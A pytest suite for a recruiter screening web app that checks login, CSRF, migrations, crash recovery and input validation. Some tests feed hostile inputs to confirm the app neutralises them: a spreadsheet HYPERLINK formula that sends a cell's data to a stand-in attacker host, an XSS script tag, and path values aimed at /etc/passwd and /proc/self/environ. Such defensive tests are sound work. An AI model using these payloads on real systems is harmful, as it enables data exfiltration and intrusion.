"""Recruiter screenings in the browser (FastAPI TestClient against SQLite and PostgreSQL)."""

import csv
import html
import io
import json
import os
import re

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import create_engine, inspect, text
from web_site import (
    DATABASES,
    database,
    invite,
    logged_in,
    new_screening,
    prompt_of,
    reply,
    settled,
)

from interviewer.web.store import open_store


@pytest.mark.parametrize("kind", DATABASES)
def test_migrations_create_the_whole_schema_from_empty(kind, tmp_path):
    url = database(kind, tmp_path)
    open_store(url)
    open_store(url)  # a second run finds nothing to do
    tables = set(inspect(create_engine(url)).get_table_names())
    queue = {"procrastinate_jobs"} if kind == "postgres" else set()  # the grading queue's own tables
    ours = {t for t in tables if not t.startswith("procrastinate_")}
    assert ours == {
        *("alembic_version", "recruiters", "screenings", "invites", "decisions"),
        *("teams", "sessions", "audit", "rate_counters"),
    }
    assert queue <= tables


def test_a_database_from_before_teams_joins_one_team_owned_by_its_first_recruiter(tmp_path):
    from alembic import command

    from interviewer.web.store import migrations_config

    url = f"sqlite:///{tmp_path / 'old.db'}"
    command.upgrade(migrations_config(url), "0001")
    with create_engine(url).begin() as old:
        for email in ("first@example.com", "second@example.com"):
            old.execute(
                text(
                    "INSERT INTO recruiters (email, password_hash, created) VALUES (:e, 'x', CURRENT_TIMESTAMP)"
                ),
                {"e": email},
            )
        old.execute(
            text(
                "INSERT INTO screenings (name, bank, questions, mode, backend, created_by, created) "
                "VALUES ('old', 'ecommerce-marketing-zh', '[3]', 'exam', 'offline', 1, CURRENT_TIMESTAMP)"
            )
        )
    open_store(url)
    with create_engine(url).begin() as new:
        roles = new.execute(text("SELECT email, role, team_id FROM recruiters ORDER BY id")).all()
        screening_team = new.execute(text("SELECT team_id FROM screenings")).scalar()
    assert [(e, r) for e, r, _ in roles] == [
        ("first@example.com", "owner"),
        ("second@example.com", "recruiter"),
    ]
    assert {t for _, _, t in roles} == {screening_team} and screening_team is not None


def test_the_recruiter_area_needs_a_login(site):
    client, _ = site
    assert client.get("/").status_code == 303 and client.get("/").headers["location"] == "/login"
    wrong = client.post("/login", data={"email": "rita@example.com", "password": "guess"})
    assert wrong.status_code == 401 and "Wrong email or password" in wrong.text
    assert client.get("/screenings/1/export.csv").status_code == 303


def test_forms_without_the_csrf_token_are_refused(site):
    client, _ = site
    logged_in(client)
    response = client.post(
        "/screenings", data={"csrf": "forged", "name": "x", "bank": "ecommerce-marketing-zh"}
    )
    assert response.status_code == 403


def test_a_screening_end_to_end(site, tmp_path):
    client, _ = site
    csrf = logged_in(client)
    screening = new_screening(client, csrf)
    link = invite(client, csrf, screening, "Chen Wei")
    candidate = TestClient(client.app, follow_redirects=True)

    consent = candidate.get(link)
    assert (
        "我同意记录并审阅我的回答" in consent.text and "参考答案" not in consent.text
    )  # the bank's language
    page = candidate.post(f"{link}/start", data={"consent": "yes"}).text
    assert "当前电商获客成本" in page and "1 / 2" in page
    page = reply(
        candidate, link, "先算LTV和CAC的比值，用RFM把用户分层，高价值老客给专属客服和无门槛券。", page
    ).text
    for verdict in ("已覆盖", "未覆盖", "/100", "参考答案"):  # exam mode: no scores, no reference
        assert verdict not in page
    for _ in range(6):
        if "感谢参加" in page:
            break
        page = reply(candidate, link, "用OneID打通各渠道会员数据，积分互通。", page).text
    assert "感谢参加" in page
    assert "score" not in page.lower()

    board = client.get(screening).text
    assert "Chen Wei" in board and "finished" in board
    assert "Scores are advice" in board
    exported = client.get(f"{screening}/export.csv").text
    assert exported.startswith("\ufeff")  # Excel reads the UTF-8 names right
    rows = list(csv.DictReader(io.StringIO(exported.removeprefix("\ufeff"))))
    assert rows[0]["candidate"] == "Chen Wei" and float(rows[0]["overall"]) > 0 and rows[0]["q3"]

    invite_id = re.search(r'href="/candidates/(\d+)"', board).group(1)
    detail = client.get(f"/candidates/{invite_id}").text
    assert "先算LTV和CAC的比值" in detail  # inside the escaped report
    response = client.post(
        f"/candidates/{invite_id}/decision",
        data={"csrf": csrf, "decision": "advance", "notes": "strong on LTV"},
    )
    assert response.status_code == 303
    assert "strong on LTV" in client.get(f"/candidates/{invite_id}").text


def test_answers_are_escaped_and_tokens_are_scoped(site):
    client, _ = site
    csrf = logged_in(client)
    screening = new_screening(client, csrf, questions="3")
    link = invite(client, csrf, screening, "<b>Mallory</b>")
    candidate = TestClient(client.app, follow_redirects=True)
    candidate.post(f"{link}/start", data={"consent": "yes"})
    reply(candidate, link, "<script>alert('x')</script> 用RFM分层。")
    board = client.get(screening).text
    assert "<b>Mallory</b>" not in board and "&lt;b&gt;Mallory&lt;/b&gt;" in board
    invite_id = re.search(r'href="/candidates/(\d+)"', board).group(1)
    detail = client.get(f"/candidates/{invite_id}").text
    assert "<script>alert" not in detail
    assert candidate.get("/i/not-a-real-token").status_code == 404
    assert candidate.get("/").status_code == 200 and "Recruiter login" in candidate.get("/").text
    assert candidate.get(f"/candidates/{invite_id}", follow_redirects=False).status_code == 303


def test_an_answer_that_is_too_long_is_refused(site):
    client, _ = site
    csrf = logged_in(client)
    link = invite(client, csrf, new_screening(client, csrf, questions="3"), "Long")
    candidate = TestClient(client.app, follow_redirects=True)
    candidate.post(f"{link}/start", data={"consent": "yes"})
    too_long = reply(candidate, link, "字" * 20_001)
    assert too_long.status_code == 413 and "每条回答最多 20000 个字符" in too_long.text


def test_an_unreachable_database_is_one_clear_line(tmp_path):
    from interviewer.errors import InterviewerError

    with pytest.raises(
        InterviewerError, match=r"^cannot open the database at .*check INTERVIEWER_DATABASE_URL$"
    ):
        open_store(f"sqlite:///{tmp_path / 'missing' / 'x.db'}")


def test_behaviour_flags_compare_and_rate_limits(site):
    client, _ = site
    csrf = logged_in(client)
    screening = new_screening(client, csrf, questions="3")
    link = invite(client, csrf, screening, "Quick")
    candidate = TestClient(client.app, follow_redirects=True)
    candidate.post(f"{link}/start", data={"consent": "yes"})
    assert candidate.post(f"{link}/left").status_code == 204
    pasted = "先算LTV和CAC的比值，用RFM把用户分层，高价值老客给专属客服和无门槛券，流失用户先问卷再召回。" * 6
    reply(candidate, link, pasted)
    board = client.get(screening).text
    assert "fast_paste×1" in board and "left_page×1" in board
    compare = client.get(f"{screening}/compare").text
    assert "分数只是自动评分给出的参考" in compare and "<table>" in compare
    statuses = [
        client.post("/login", data={"email": "x@example.com", "password": "nope"}).status_code
        for _ in range(11)
    ]
    assert statuses == [401] * 9 + [429] * 2  # ten logins a minute, the successful one included


def test_time_limit_is_shown_and_late_answers_are_flagged(site, tmp_path):
    from interviewer.engine.events import Answer, BankRef, QuestionAsked, SessionStart, StartSettings
    from interviewer.transcript.record import load_record
    from interviewer.transcript.writer import TranscriptWriter
    from interviewer.web.results import behaviour_flags

    client, _ = site
    csrf = logged_in(client)
    link = invite(client, csrf, new_screening(client, csrf, questions="3", minutes="2"), "Timed")
    candidate = TestClient(client.app, follow_redirects=True)
    assert "每题限时 2 分钟" in candidate.post(f"{link}/start", data={"consent": "yes"}).text

    path = tmp_path / "late.jsonl"
    with TranscriptWriter(path) as writer:
        writer.write(
            SessionStart(session_id="s", bank=BankRef(id="b"), settings=StartSettings(questions=[3]))
        )
        writer.write(QuestionAsked(number=3, text="Q"))
        writer.write(Answer(number=3, text="slow", seconds=130.0))
        writer.write(Answer(number=3, text="quick", seconds=30.0))
    assert behaviour_flags(load_record(path), 120) == ["over_time×1"]
    assert behaviour_flags(load_record(path), None) == []


def events_of(url):
    import json
    from pathlib import Path

    from interviewer.web.store import Invite

    with open_store(url)() as db:
        path = db.query(Invite).one().transcript
    return [json.loads(line) for line in Path(path).read_text(encoding="utf-8").splitlines()], path


def started(client, **fields):
    csrf = logged_in(client)
    link = invite(client, csrf, new_screening(client, csrf, **fields), "Double")
    candidate = TestClient(client.app, follow_redirects=True)
    return candidate, link, candidate.post(f"{link}/start", data={"consent": "yes"}).text


def test_a_double_submit_is_stored_once_and_answers_the_same(site):
    from concurrent.futures import ThreadPoolExecutor

    client, url = site
    candidate, link, page = started(client, questions="3,4", mode="exam")
    with ThreadPoolExecutor(max_workers=2) as pool:  # a double click: the same form, twice at once
        replies = list(pool.map(lambda _: reply(candidate, link, "第一份回答。", page), range(2)))
    assert [r.status_code for r in replies] == [200, 200]
    assert replies[0].text == replies[1].text  # both show where the interview is now
    again = reply(candidate, link, "第一份回答。", page)  # the browser's back button, resubmitted
    assert again.status_code == 200 and again.text == replies[0].text
    events, _ = events_of(url)
    assert [e["seq"] for e in events] == list(range(1, len(events) + 1))
    assert [e["text"] for e in events if e["type"] == "answer"] == ["第一份回答。"]


def test_an_answer_to_an_earlier_prompt_is_refused_and_kept_in_the_box(site):
    client, url = site
    candidate, link, first = started(client, questions="3,4", mode="exam")
    reply(candidate, link, "第一份回答。", first)
    stale = reply(candidate, link, "写给第一题的另一份回答。", first)  # an old tab
    assert stale.status_code == 409
    assert "未被保存" in stale.text and "写给第一题的另一份回答。" in stale.text  # nothing typed is lost
    assert prompt_of(stale.text) != prompt_of(first)  # the current prompt, ready to answer
    events, _ = events_of(url)
    assert [e["text"] for e in events if e["type"] == "answer"] == ["第一份回答。"]
    assert reply(candidate, link, "第二份回答。", stale.text).status_code == 200


def test_the_reviewing_page_waits_for_the_transcript_to_change(site):
    """The reviewing page's refresh goes to a wait that answers when the transcript grows
    (here: the candidate hides the page half a second later), not before; then back to the
    page."""
    import threading
    import time

    client, url = site
    candidate, link, _ = started(client, questions="3,4", mode="exam")
    _, path = events_of(url)
    size = os.path.getsize(path)

    def hide_the_page():
        time.sleep(0.5)
        candidate.post(f"{link}/left")

    threading.Thread(target=hide_the_page).start()
    waited = candidate.get(f"{link}/next?after={size}", follow_redirects=False)
    assert os.path.getsize(path) > size  # it answered because the transcript grew
    assert waited.status_code == 303 and waited.headers["location"] == link


def cut_at(url, candidate, link, where):
    """Answer until the transcript holds `where` (an answer, the first critique, the last
    critique), then cut it just after that event, as a crash between two writes would."""
    for _ in range(8):
        events, path = events_of(url)
        kinds = [e["type"] for e in events]
        if where == "answer" and "answer" in kinds:
            last = kinds.index("answer")
            break
        if where == "critique" and "critique" in kinds:
            last = kinds.index("critique")
            break
        if where == "end" and "session_end" in kinds:
            last = kinds.index("session_end") - 1
            break
        reply(candidate, link, "先算LTV和CAC的比值，用RFM分层。")
    with open(path, "w", encoding="utf-8") as cut:
        cut.writelines(json.dumps(e, ensure_ascii=False) + "\n" for e in events[: last + 1])


@pytest.mark.parametrize("where", ["answer", "critique", "end"])
def test_a_transcript_cut_between_writes_is_completed_on_the_next_request(site, where):
    """A crash after an answer (or a critique) was written but before the next prompt: the
    candidate sees the next prompt, not a false 'thank you', and can finish; a crash before
    the end was written gets the end written."""
    client, url = site
    candidate, link, _ = started(client, questions="3,4", mode="exam")
    cut_at(url, candidate, link, where)

    page = settled(candidate, link, candidate.get(link)).text  # graded again, then shown
    if where != "end":
        assert "感谢参加" not in page and prompt_of(page)  # a prompt to answer, not a false 'thank you'
    for _ in range(5):
        if "感谢参加" in page:
            break
        page = reply(candidate, link, "用OneID打通会员数据，积分互通。", page).text
    events, _ = events_of(url)
    assert "感谢参加" in page and events[-1]["type"] == "session_end" and events[-1]["finished"]
    assert [e["seq"] for e in events] == list(range(1, len(events) + 1))
    assert [e["number"] for e in events if e["type"] == "question"] == [3, 4]
    assert [e["number"] for e in events if e["type"] == "critique"] == [3, 4]
    from interviewer.web.store import Invite

    with open_store(url)() as db:
        assert db.query(Invite).one().status == "finished"  # the dashboard says so too


def test_candidate_pages_speak_the_banks_language(site):
    client, _ = site
    csrf = logged_in(client)
    link = invite(
        client, csrf, new_screening(client, csrf, bank="backend-engineering-en", questions="1"), "Ann"
    )
    consent = TestClient(client.app).get(link).text
    assert "I agree to have my answers recorded and reviewed." in consent and '<html lang="en" ' in consent
    zh_link = invite(client, csrf, new_screening(client, csrf, questions="1"), "陈")
    assert '<html lang="zh-CN" ' in TestClient(client.app).get(zh_link).text


def test_every_page_carries_the_security_headers_and_no_inline_script(site):
    client, _ = site
    csrf = logged_in(client)
    link = invite(client, csrf, new_screening(client, csrf, questions="3"), "Headers")
    candidate = TestClient(client.app, follow_redirects=True)
    page = candidate.post(f"{link}/start", data={"consent": "yes"})
    for response in (client.get("/login"), client.get("/"), page):
        policy = response.headers["content-security-policy"]
        assert "script-src 'self'" in policy and "frame-ancestors 'none'" in policy
        assert response.headers["x-frame-options"] == "DENY"
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["referrer-policy"] == "no-referrer"
        assert response.headers["cache-control"] == "no-store"
    assert re.findall(r"<script[^>]*>", page.text) == ['<script src="/static/candidate.js">']
    script = candidate.get("/static/candidate.js")
    assert (
        script.status_code == 200
        and "sendBeacon" in script.text
        and "no-store" not in script.headers.get("cache-control", "")
    )


def test_the_csv_export_never_carries_a_live_formula(site):
    client, _ = site
    csrf = logged_in(client)
    screening = new_screening(client, csrf, questions="3")
    invite(client, csrf, screening, '=HYPERLINK("http://evil.example/?"&A1,"Click")')
    exported = client.get(f"{screening}/export.csv").text.removeprefix("\ufeff")
    [row] = list(csv.DictReader(io.StringIO(exported)))
    assert row["candidate"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"bank": "/etc/passwd"}, "no bank named '/etc/passwd'"),
        ({"bank": "/proc/self/environ"}, "no bank named '/proc/self/environ'"),
        ({"name": "Q3\x00 hires"}, "contains control characters"),
        ({"name": "\u200b \u3000"}, "is empty"),
        ({"name": "x" * 201}, "longer than 200 characters"),
        ({"minutes": "99999999999"}, "from 1 to 240"),
    ],
)
def test_screening_inputs_are_checked_with_a_clear_4xx(site, fields, message):
    client, _ = site
    csrf = logged_in(client)
    data = {"csrf": csrf, "name": "Q3", "bank": "ecommerce-marketing-zh", "questions": "3", "mode": "exam",
            "backend": "offline", "model": "", "minutes": "", **fields}  # fmt: skip
    response = client.post("/screenings", data=data, follow_redirects=False)
    assert response.status_code == 400 and message in html.unescape(response.text)
    assert response.text.startswith("<!doctype html>")  # a page, never raw JSON
    assert "root:" not in response.text


def test_invisible_candidate_names_and_nul_bytes_are_refused(site):
    client, _ = site
    csrf = logged_in(client)
    screening = new_screening(client, csrf, questions="3")
    for name in ("\u200b\u200b", "Ann\x00", "\u00ad", "\u034f", "\u180e", "\u2800", "\uffa0"):
        response = client.post(f"{screening}/invites", data={"csrf": csrf, "candidate": name})
        assert response.status_code == 400
    bad = client.post("/login", data={"email": "a\x00@example.org", "password": "x" * 12})
    assert bad.status_code == 400 and "control characters" in bad.text


def test_an_unknown_email_costs_a_password_check_like_a_known_one(site, monkeypatch):
    from interviewer.web import auth

    client, _ = site
    checks = []
    hasher = auth._hasher

    class Counting:
        def verify(self, *args):
            checks.append(1)
            return hasher.verify(*args)

        def hash(self, *args):
            return hasher.hash(*args)

    monkeypatch.setattr(auth, "_hasher", Counting())
    for email in ("nobody@example.org", "rita@example.com"):
        response = client.post("/login", data={"email": email, "password": "wrong password!"})
        assert response.status_code == 401
    assert checks == [1, 1]


def test_serve_refuses_a_weak_secret_in_one_line(tmp_path):
    import subprocess
    import sys

    env = {**os.environ, "INTERVIEWER_SECRET": "a"}
    result = subprocess.run(
        [sys.executable, "-m", "interviewer", "serve", "--port", "0", "--database", f"sqlite:///{tmp_path}/x.db"],
        capture_output=True, text=True, env=env, timeout=60,
    )  # fmt: skip
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert result.stderr.strip().count("\n") == 0 and "use at least 32" in result.stderr


def test_skipping_asks_for_a_confirmation_first(site):
    client, _ = site
    csrf = logged_in(client)
    link = invite(
        client, csrf, new_screening(client, csrf, bank="backend-engineering-en", questions="1"), "Ann"
    )
    page = TestClient(client.app, follow_redirects=True).post(f"{link}/start", data={"consent": "yes"}).text
    hidden = page.split('<details class="skip">', 1)[1].split("</details>", 1)[0]
    assert 'value="/skip"' in hidden and "cannot be answered later" in hidden  # only behind the question
    assert 'value="/skip"' not in page.replace(hidden, "")
